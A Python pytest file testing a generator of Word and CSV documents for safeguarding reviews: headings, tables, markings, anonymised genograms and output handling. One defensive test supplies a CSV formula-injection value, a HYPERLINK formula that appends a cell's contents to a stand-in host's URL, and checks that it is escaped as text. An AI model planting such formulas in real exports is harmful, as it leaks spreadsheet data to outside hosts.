"""The Word documents: structure, names, tables and wording that the case file says must be there."""

from __future__ import annotations

import csv
import re
import zipfile

import pytest

from documents_helpers import SMALL_CASE, body_text, header_footer_text, headings, open_docx, table_with_header
from scrdocs.documents.build import build_documents, planned_documents, render_docx
from scrdocs.case.casefile import load_case, parse_case
from scrdocs.documents.chronology import COLUMNS
from scrdocs.documents.context import KINDS
from scrdocs.examples import minimal_case_path
from scrdocs.output import RECORD_NAME

OVERVIEW_HEADINGS = [
    "1 Introduction", "1.1 Circumstances that led to the review", "1.2 Terms of reference", "1.3 Methodology",
    "Documents seen", "Interviews", "Information not available", "1.4 Contributors to the review",
    "1.5 The review panel", "1.6 Parallel processes", "1.7 Family involvement",
    "2 The facts", "2.1 Summary of events", "2.2 Genogram", "2.3 Equality and diversity",
    "2.4 What was known to agencies", "2.5 Integrated chronology",
    "3 Analysis", "3.1 Key issues and themes", "3.2 Analysis of involvement", "3.3 Good practice",
    "3.4 Previous reviews and research",
    "4 Conclusions and recommendations", "4.1 Lessons learned", "4.2 Lessons for national policy and practice",
    "4.3 Conclusions", "4.4 Recommendations",
    "5 Action plan", "Appendix A The IMRs' recommendations", "Appendix B Glossary",
]
IMR_HEADINGS = ["SECTION 1 INTRODUCTION", "SECTION 2 FAMILY COMPOSITION", "SECTION 3 COMPREHENSIVE CHRONOLOGY",
                "SECTION 4 ANALYSIS", "SECTION 5 WHAT DO WE LEARN FROM THIS CASE?", "SECTION 6 RECOMMENDATIONS FOR ACTION"]


@pytest.fixture(scope="module")
def case():
    return load_case(SMALL_CASE)


@pytest.fixture(scope="module")
def built(case, tmp_path_factory):
    out = tmp_path_factory.mktemp("docs") / "out"
    return build_documents(case, out, pdf=False, marking="OFFICIAL-SENSITIVE")


def _doc(built, name):
    return open_docx(built.out_dir / name)


def test_build_writes_every_document_and_the_csv(built):
    names = sorted(p.name for p in built.files)
    assert names == sorted([
        "overview-report.docx", "executive-summary.docx", "imr-asc.docx", "imr-gp.docx", "imr-dn.docx",
        "imr-police.docx", "integrated-chronology.docx", "integrated-chronology.csv", "action-plan.docx",
        "seven-minute-briefing.docx", "imr-standards-asc.docx", "imr-standards-gp.docx", "imr-standards-dn.docx",
        "imr-standards-police.docx"])
    assert sorted(p.name for p in built.out_dir.iterdir() if p.name != RECORD_NAME) == names  # no temp files
    assert built.pdf == []


def test_overview_report_has_the_seed_structure_in_order(built):
    found = headings(_doc(built, "overview-report.docx"))
    assert [h for h in found if h in OVERVIEW_HEADINGS] == OVERVIEW_HEADINGS


def test_overview_names_the_chairs_author_and_every_panel_member(built, case):
    text = body_text(_doc(built, "overview-report.docx"))
    for person in (case.panel.board_chair, case.panel.panel_chair, case.panel.author):
        assert person.name in text
        assert person.job_title in text
    for member in case.panel.members:
        assert member.name in text
        assert member.job_title in text
        assert member.organisation in text
    for agency in case.agencies:  # contributors and the nature of their contribution
        assert agency.name in text
    assert "Individual Management Review and chronology (2 entries)" in text
    assert "section 44 of the Care Act 2014" in text  # default mandate for a SAR
    assert "Safeguarding Adults Board chair" in text  # adult wording


def test_overview_chronology_table_is_in_date_and_time_order(built, case):
    doc = _doc(built, "overview-report.docx")
    table = table_with_header(doc, "Date", "Agency")
    assert len(table.rows) == len(case.chronology) + 1
    assert [c.text for c in table.rows[0].cells] == [
        "Date", "Agency", "Source", "Subject / contact", "Event, action and outcome", "Seen",
        "Seen alone", "Wishes and feelings", "Expected practice", "Relevance to ToR", "Comments"]
    rows = [[c.text for c in r.cells] for r in table.rows[1:]]
    assert [r[0].splitlines() + [r[1]] for r in rows[:2]] == [["14/02/2024", "08:15", "ASC"], ["14/02/2024", "09:30", "GP"]]
    assert rows[2][0] == "c. 03/05/2024" and rows[2][5:8] == ["Yes", "Yes", "Yes"]
    assert rows[4][0] == "20/09/2024 – 22/09/2024"
    assert "Adult Q said she wanted to stay at home & not move." in rows[2][4]  # '&' survives escaping


def test_action_plan_table_has_cumbria_columns_and_numbered_actions(built, case):
    doc = _doc(built, "action-plan.docx")
    table = table_with_header(doc, "No", "Recommendation")
    assert [c.text for c in table.rows[0].cells] == [
        "No", "Recommendation", "Key actions", "Evidence", "Key outcome", "Date", "Lead agency", "Lead person",
        "Monitoring", "Status / progress", "RAG status"]
    assert len(table.rows) == len(case.recommendations) + 1
    first = [c.text for c in table.rows[1].cells]
    assert first[2].splitlines() == ["1.1 Draft guidance", "1.2 Consult partners", "1.3 Publish guidance"]
    assert first[5] == "30/04/2026" and first[6] == "ASC" and first[9] == "In progress: Draft written"
    text = body_text(doc)
    assert "Single-agency action plans" in text and "ASC will audit the recording" in text


def test_executive_summary_has_review_process_key_issues_and_full_action_plan(built, case):
    doc = _doc(built, "executive-summary.docx")
    assert {"1 The review process", "2 Key issues arising from the case", "3 Recommendations",
            "4 Action plan"} <= set(headings(doc))
    table = table_with_header(doc, "No", "Recommendation")
    assert len(table.rows) == len(case.recommendations) + 1
    text = body_text(doc)
    assert "Falls were not escalated." in text
    assert case.panel.panel_chair.name in text and "Decision to hold the review" in text


def test_imr_follows_cumbria_and_herefordshire_formats(built, case):
    doc = _doc(built, "imr-asc.docx")
    text = body_text(doc)
    for phrase in ("STRICTLY CONFIDENTIAL", "INDIVIDUAL MANAGEMENT REVIEW REPORT", "Name of adult subject of the review",
                   "Agency providing the report", "Evaluation statement on behalf of the agency",
                   "Countersigned", "Rupert Mallinder, Director of Adult Services", "Gwendolyn Ashcombe, Practice Lead",
                   "Agatha Penhallow", "12/03/1938", "02/01/2025"):
        assert phrase in text, phrase
    found = headings(doc)
    assert [h for h in found if h in IMR_HEADINGS] == IMR_HEADINGS
    chron = table_with_header(doc, "Date", "Source of information")
    assert [c.text for c in chron.rows[0].cells] == [
        "Date", "Source of information", "Subject of recording / contact", "Event description, action and outcome",
        "Seen", "Seen alone", "Wishes and feelings", "Expected practice/standards", "Relevance to terms of reference"]
    assert len(chron.rows) == sum(e.agency == "asc" for e in case.chronology) + 1
    family = table_with_header(doc, "Name", "Relationship to subject")
    assert {r.cells[0].text for r in family.rows[1:]} == {"Bronwen Penhallow", "Cyril Penhallow"}
    plan = table_with_header(doc, "No", "Recommendation")
    assert [c.text for c in plan.rows[0].cells] == ["No", "Recommendation", "Key Actions", "Evidence", "Key Outcome",
                                                    "Date", "Lead person", "Monitoring", "Status / progress", "RAG status"]
    assert plan.rows[1].cells[2].text.splitlines() == ["1.1 Design the audit", "1.2 Report findings to the Board"]
    assert "07700 900123" in text  # lead person block


def test_imr_without_content_marks_what_is_missing_and_is_stamped_draft(built):
    doc = _doc(built, "imr-gp.docx")
    text = body_text(doc)
    assert "[To be completed: the analysis]" in text
    assert "[To be completed: the agency's recommendations]" in text
    assert "DRAFT" in [p.text for p in doc.paragraphs[:4]]  # on the cover
    assert "has not been provided" not in text and "Not recorded" not in text


def test_every_document_carries_the_marking_page_numbers_and_a_fresh_toc(built):
    for path in built.docx:
        doc = open_docx(path)
        hf = header_footer_text(doc)
        assert hf.count("OFFICIAL-SENSITIVE") >= 2, path.name
        with zipfile.ZipFile(path) as z:
            settings = z.read("word/settings.xml").decode()
            footer_xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("word/footer"))
            document_xml = z.read("word/document.xml").decode()
        assert '<w:updateFields w:val="true"/>' in settings, path.name
        assert settings.index("<w:updateFields") < settings.index("<w:compat"), path.name  # schema order Word needs
        assert "PAGE" in footer_xml and "NUMPAGES" in footer_xml, path.name
        assert "{{" not in document_xml and "{%" not in document_xml, path.name  # every tag was filled in
        if path.stem in ("overview-report", "executive-summary") or (
                path.stem.startswith("imr-") and not path.stem.startswith("imr-standards-")):
            assert re.search(r"<w:instrText[^>]*> TOC \\o", document_xml), path.name


def test_documents_are_a4_with_landscape_tables(built):
    doc = _doc(built, "overview-report.docx")
    sizes = {(round(s.page_width.mm), round(s.page_height.mm)) for s in doc.sections}
    assert sizes == {(210, 297), (297, 210)}


def test_csv_matches_the_table_with_a_bom(built, case):
    path = built.out_dir / "integrated-chronology.csv"
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == [label for _, label in COLUMNS]
    assert len(rows) == len(case.chronology) + 1
    assert rows[1][:3] == ["14/02/2024", "08:15", "ASC"]
    doc_rows = table_with_header(_doc(built, "integrated-chronology.docx"), "Date", "Agency").rows
    by_label = dict(zip(rows[0], rows[3]))
    cells = [c.text for c in doc_rows[3].cells]
    assert cells[1:3] == [by_label["Agency"], by_label["Source of information"]]
    assert cells[4].splitlines()[0] == by_label["Event, action and outcome"]


def test_seven_minute_briefing_sections(built):
    doc = _doc(built, "seven-minute-briefing.docx")
    assert headings(doc)[1:] == ["The case in brief", "Key issues", "What we learned", "Good practice",
                                 "What practitioners should do", "Questions for reflection", "Recommendations"]
    text = body_text(doc)
    assert "See the adult alone" in text and "Escalate repeated falls" in text
    assert "1. The Board should issue falls escalation guidance to all partners." in text


def test_minimal_case_builds_and_says_what_is_missing(tmp_path):
    case = load_case(minimal_case_path())
    result = build_documents(case, tmp_path / "out", pdf=False)
    names = {p.name for p in result.files}
    assert not any(n.startswith("imr-") for n in names)  # no agencies, so no IMRs
    text = body_text(open_docx(tmp_path / "out" / "overview-report.docx"))
    for missing in ("[To be completed: the chronology entries]",
                    "[To be completed: the recommendations]",
                    "[To be completed: the analysis]",
                    "[To be completed: the terms of reference]",
                    "[To be completed: the family section of the case file, for the genogram]"):
        assert missing in text, missing
    assert "has not been provided" not in text and "Not recorded" not in text and "in the case file." not in text
    rows = (tmp_path / "out" / "integrated-chronology.csv").read_text(encoding="utf-8-sig").splitlines()
    assert len(rows) == 1


def _variant(case, **review):
    data = case.model_dump(mode="json", exclude_none=True)
    data["review"].update(review)
    return parse_case(data, "<variant>")


def test_childrens_review_wording(case, tmp_path):
    child = _variant(case, type="CSPR", board="Westmarch Safeguarding Children Partnership")
    path = render_docx(child, "overview_report", tmp_path / "o.docx")
    text = body_text(open_docx(path))
    assert "The names, roles and job titles of the review panel chair" in text
    assert "each occasion on which the child was seen" in text
    assert "Child Safeguarding Practice Review" in text


def test_dhr_names_its_statutory_basis_by_default(case, tmp_path):
    data = case.model_dump(mode="json", exclude_none=True)
    data["review"]["type"] = "DHR"
    data["review"].pop("legal_mandate", None)
    path = render_docx(parse_case(data), "executive_summary", tmp_path / "e.docx")
    assert "section 9 of the Domestic Violence, Crime and Victims Act 2004" in body_text(open_docx(path))


def test_only_agencies_with_entries_or_imr_get_an_imr(case):
    data = case.model_dump(mode="json", exclude_none=True)
    data["agencies"].append({"id": "fire", "name": "Westmarch Fire and Rescue"})
    planned = [p.file_name for p in planned_documents(parse_case(data), ["imr"])]
    assert planned == ["imr-asc.docx", "imr-gp.docx", "imr-dn.docx", "imr-police.docx"]


def test_kinds_select_documents(case, tmp_path):
    result = build_documents(case, tmp_path / "only", kinds=["seven_minute_briefing", "integrated_chronology"], pdf=False)
    assert sorted(p.name for p in result.files) == [
        "integrated-chronology.csv", "integrated-chronology.docx", "seven-minute-briefing.docx"]
    assert set(KINDS) == {"overview_report", "executive_summary", "imr", "imr_standards", "integrated_chronology",
                          "action_plan", "seven_minute_briefing"}


def test_a_failing_genogram_is_reported_in_the_document_not_fatal(case, tmp_path, monkeypatch):
    import scrdocs.genogram as genogram_package

    def broken(*args, **kwargs):
        raise RuntimeError("the drawing broke")

    monkeypatch.setattr(genogram_package, "draw_genogram", broken, raising=False)
    result = build_documents(case, tmp_path / "out", kinds=["overview_report"], pdf=False)
    assert "The genogram could not be drawn (the drawing broke)." in body_text(open_docx(result.docx[0]))
    assert result.notes == ["The genogram could not be drawn (the drawing broke)."]


@pytest.mark.needs_dot
def test_genogram_and_timeline_are_embedded(case, tmp_path):
    pytest.importorskip("scrdocs.genogram", reason="the genogram package is not installed")
    from scrdocs import genogram

    if not hasattr(genogram, "draw_genogram"):
        pytest.fail("scrdocs.genogram.draw_genogram does not exist: the documents cannot show a genogram")
    path = render_docx(case, "overview_report", tmp_path / "o.docx")
    doc = open_docx(path)
    assert "could not be drawn" not in body_text(doc)
    assert len(doc.inline_shapes) >= 1
    imr = open_docx(render_docx(case, "imr", tmp_path / "i.docx", agency="asc"))
    assert len(imr.inline_shapes) == 1


def test_existing_output_folder_is_replaced_only_when_complete(case, tmp_path, monkeypatch):
    out = tmp_path / "out"
    build_documents(case, out, pdf=False, kinds=["overview_report"])
    previous = (out / "overview-report.docx").read_bytes()
    import scrdocs.documents.build as build_module

    def fail(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(build_module, "write_chronology_csv", fail)
    with pytest.raises(RuntimeError):
        build_documents(case, out, pdf=False)
    assert sorted(p.name for p in out.iterdir()) == [RECORD_NAME, "overview-report.docx"]
    assert (out / "overview-report.docx").read_bytes() == previous
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no staging folder left behind


def test_long_chronology_is_split_into_tables_with_headers_in_order(tmp_path, monkeypatch):
    import scrdocs.documents.context as context
    from scrdocs.examples import example_case_path

    case = load_case(example_case_path())
    assert len(case.chronology) < context.TABLE_PART_ROWS  # the example's chronology is one table
    monkeypatch.setattr(context, "TABLE_PART_ROWS", 50)  # a very long one is split, each part with its header
    TABLE_PART_ROWS = 50
    doc = open_docx(render_docx(case, "integrated_chronology", tmp_path / "c.docx"))
    parts = [t for t in doc.tables if t.rows[0].cells[0].text == "Date" and t.rows[0].cells[1].text == "Agency"]
    assert len(parts) == -(-len(case.chronology) // TABLE_PART_ROWS)
    rows = [[c.text for c in r.cells] for t in parts for r in t.rows[1:]]
    assert len(rows) == len(case.chronology)  # every entry once, each part with its own header row
    from scrdocs.documents.chronology import chronology_rows

    keys = ("date_cell", "agency", "source", "subject_contact", "event_cell", "seen", "seen_alone", "wishes",
            "expected", "relevance", "comments")
    assert rows == [[r[k] for k in keys] for r in chronology_rows(case)]


def _briefing_paragraphs(tmp_path, case):
    render_docx(case, "seven_minute_briefing", tmp_path / "b.docx")
    doc = open_docx(tmp_path / "b.docx")
    sections, current = {}, None
    for para in doc.paragraphs:
        if para.style.name.startswith("Heading 2"):
            current = sections.setdefault(para.text.strip(), [])
        elif current is not None and para.text.strip():
            current.append(para)
    return sections


def test_briefing_lists_the_themes_of_a_one_sentence_list_as_separate_points(tmp_path):
    from scrdocs.examples import load_example_case

    case = load_example_case()
    # The example's key issues are one sentence "Five themes emerged: a; b; ...; and e."
    assert case.narrative.key_issues.startswith("Five themes emerged:")
    issues = [p.text for p in _briefing_paragraphs(tmp_path, case)["Key issues"]]
    assert issues[0] == "The voice of Adult A was heard mostly through her son."
    assert len(issues) == 5 and not any(x.startswith(("and ", "And ")) or x.endswith("…") for x in issues)
    assert issues[-1].startswith("Cancelled care, refused access")


def test_briefing_recommendations_carry_their_number_without_a_bullet_and_no_sentence_is_cut(tmp_path):
    from scrdocs.documents.briefing import MAX_RECOMMENDATIONS
    from scrdocs.examples import load_example_case

    case = load_example_case()
    sections = _briefing_paragraphs(tmp_path, case)
    recs = sections["Recommendations"]
    shown = case.recommendations[:MAX_RECOMMENDATIONS]
    assert [p.text.split(".")[0] for p in recs[:len(shown)]] == [str(r.number) for r in shown]
    assert all(p.style.name != "List Bullet" for p in recs)  # the number is the marker
    more = len(case.recommendations) - len(shown)
    assert recs[-1].text == f"{more} more recommendations are in the full report."
    for name, paras in sections.items():
        for para in paras:
            assert not para.text.endswith("…"), para.text  # never a sentence cut off mid-way
            assert para.text.rstrip().endswith((".", "?", "!", ")", "]", '"', "’", "'")), (name, para.text)
    assert sections["Good practice"], "the briefing has a good-practice section"


def test_shorten_prefers_a_clause_end():
    from scrdocs.documents.context import _shorten

    text = "Agencies should record the reasons, and they should tell the carer about the outcome of every review"
    assert _shorten(text, 60) == "Agencies should record the reasons…"
    assert _shorten("short", 60) == "short"
    no_clause = "word " * 30
    assert _shorten(no_clause, 42) == ("word " * 8).strip() + "…"


def test_action_plan_status_column_is_wide_enough_for_progress_notes():
    from docx.shared import Mm

    from scrdocs.documents.context import template_path

    doc = open_docx(template_path("action_plan"))
    table = table_with_header(doc, "No", "Recommendation")
    widths = {cell.text.strip(): cell.width for cell in table.rows[0].cells}
    assert widths["Status / progress"] >= Mm(29.9)
    assert widths["Date"] >= Mm(17.9)  # "31/03/2025" on one line at 8 pt
    assert abs(sum(widths.values()) - Mm(257)) < Mm(1)  # the landscape page's usable width


def test_csv_cells_that_excel_would_run_as_formulas_are_kept_as_text(tmp_path, case):
    from scrdocs.documents.chronology import write_chronology_csv

    first = case.sorted_chronology()[0]
    risky = case.model_copy(update={"chronology": [
        first.model_copy(update={"event": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
                                 "comments": "-ve urine dip", "source": "@records", "expected_practice": "+1 visit"}),
        first.model_copy(update={"event": "Seen at home; A-1 grade = fine"}),
    ]})
    rows = list(csv.reader(write_chronology_csv(risky, tmp_path / "c.csv").read_text(encoding="utf-8-sig").splitlines()))
    event, source, expected, comments = (rows[0].index(h) for h in (
        "Event, action and outcome", "Source of information", "Expected practice/standards", "Comments"))
    assert rows[1][event] == '\'=HYPERLINK("http://example.invalid/?"&A1,"click")'
    assert (rows[1][source], rows[1][expected], rows[1][comments]) == ("'@records", "'+1 visit", "'-ve urine dip")
    assert rows[2][event] == "Seen at home; A-1 grade = fine"  # only a formula-like start is changed


def _pictures(path) -> list[bytes]:
    with zipfile.ZipFile(path) as docx:
        return [docx.read(n) for n in sorted(docx.namelist()) if n.startswith("word/media/")]


@pytest.mark.needs_dot
def test_overview_report_shows_the_anonymised_genogram_and_the_imr_the_named_one(case, tmp_path):
    # Guidance: an *anonymised* genogram in the overview report; names and dates of birth in an IMR.
    # A picture cannot be redacted later, so a named genogram in the overview report would leak.
    from scrdocs.genogram import draw_genogram

    anonymised = draw_genogram(case, profile="anonymised", format="png")
    internal = draw_genogram(case, profile="internal", format="png")
    built = build_documents(case, tmp_path / "out", kinds=["overview_report", "imr"], pdf=False)
    assert anonymised in _pictures(built.out_dir / "overview-report.docx")
    assert internal not in _pictures(built.out_dir / "overview-report.docx")
    for imr in (p for p in built.out_dir.glob("imr-*.docx") if not p.name.startswith("imr-standards")):
        assert internal in _pictures(imr) and anonymised not in _pictures(imr)
    forced = build_documents(case, tmp_path / "forced", kinds=["overview_report"], pdf=False,
                             genogram_profile="internal")
    assert internal in _pictures(forced.out_dir / "overview-report.docx")
    single = render_docx(case, "overview_report", tmp_path / "one.docx")
    assert anonymised in _pictures(single)


def test_numbered_recommendations_have_no_second_marker(built, case):
    for name in ("executive-summary.docx", "seven-minute-briefing.docx"):
        numbered = [p for p in _doc(built, name).paragraphs if re.match(r"\d+\. ", p.text)]
        assert len(numbered) == len(case.recommendations), name
        assert all(p.style.name != "List Bullet" for p in numbered), name


def test_word_properties_carry_the_build_date_not_the_templates(built):
    from datetime import datetime, timedelta, timezone

    props = _doc(built, "overview-report.docx").core_properties
    assert props.title.endswith("Overview report") and "{{" not in props.title
    created = props.created.replace(tzinfo=None)
    assert abs(datetime.now(timezone.utc).replace(tzinfo=None) - created) < timedelta(days=2) and props.modified == props.created
